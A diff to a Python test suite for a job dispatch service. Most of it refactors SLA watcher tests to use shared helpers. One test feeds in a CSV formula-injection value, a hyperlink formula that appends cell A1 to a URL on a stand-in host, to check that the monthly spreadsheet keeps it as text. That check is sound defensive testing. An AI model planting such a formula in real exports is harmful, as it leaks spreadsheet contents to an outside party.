@@ -16,7 +16,7 @@ from sqlalchemy import func, select
 from support.api import job_body
 from support.database import PG_URL
 from support.moments import T0, iso
-from support.workflow import assign, assigned_job, event_types, events_of, tap
+from support.workflow import add_outlet, assign, assigned_job, event_types, events_of, tap
 
 from dispatch.app import create_app
 from dispatch.config import Settings
@@ -171,9 +171,7 @@ def test_the_watcher_records_each_warning_at_risk_and_breach_once_at_the_moment_
     assert watch(api).fired == 0  # and never again
     assert watch(api).fired == 0
     fired = [
-        (e["type"], e["occurred_at"], e["data"]["notify"])
-        for e in api.get(f"/v1/jobs/{job['id']}/events").json()["items"]
-        if e["type"].startswith("sla_")
+        (e["type"], e["occurred_at"], e["data"]["notify"]) for e in events_of(api, job) if e["type"].startswith("sla_")
     ]
     stamp = lambda h: iso(T0 + timedelta(hours=h))
     assert fired == [
@@ -214,11 +212,7 @@ def test_a_job_fixed_late_before_the_watcher_passed_still_records_its_breach_onc
     api.clock.advance(hours=25)  # the watcher was down all day
     tap(api, job, "on_site", phone=phone)
     tap(api, job, "completed", phone=phone)
-    fired = [
-        (e["type"], e["occurred_at"])
-        for e in api.get(f"/v1/jobs/{job['id']}/events").json()["items"]
-        if e["type"].startswith("sla_")
-    ]
+    fired = [(e["type"], e["occurred_at"]) for e in events_of(api, job) if e["type"].startswith("sla_")]
     stamp = lambda h: iso(T0 + timedelta(hours=h))
     assert fired == [("sla_warning", stamp(12)), ("sla_at_risk", stamp(18)), ("sla_breached", stamp(24))]
     assert watch(api).fired == 0  # and not again when the watcher comes back
@@ -627,7 +621,7 @@ def test_the_monthly_review_gets_a_csv(api):
 
 
 def test_a_category_typed_as_a_formula_stays_text_in_the_monthly_spreadsheet(api):
-    shop = api.post("/v1/outlets", {"code": "shop-f", "name": "F"}, who="admin").json()
+    shop = add_outlet(api, "shop-f", "F")
     formula = '=hyperlink("http://x.example/?"&a1,"open")'
     api.job(headers=api.as_outlet(shop["id"]), product={"category": formula})
     api.job(product={"category": "-oven"})
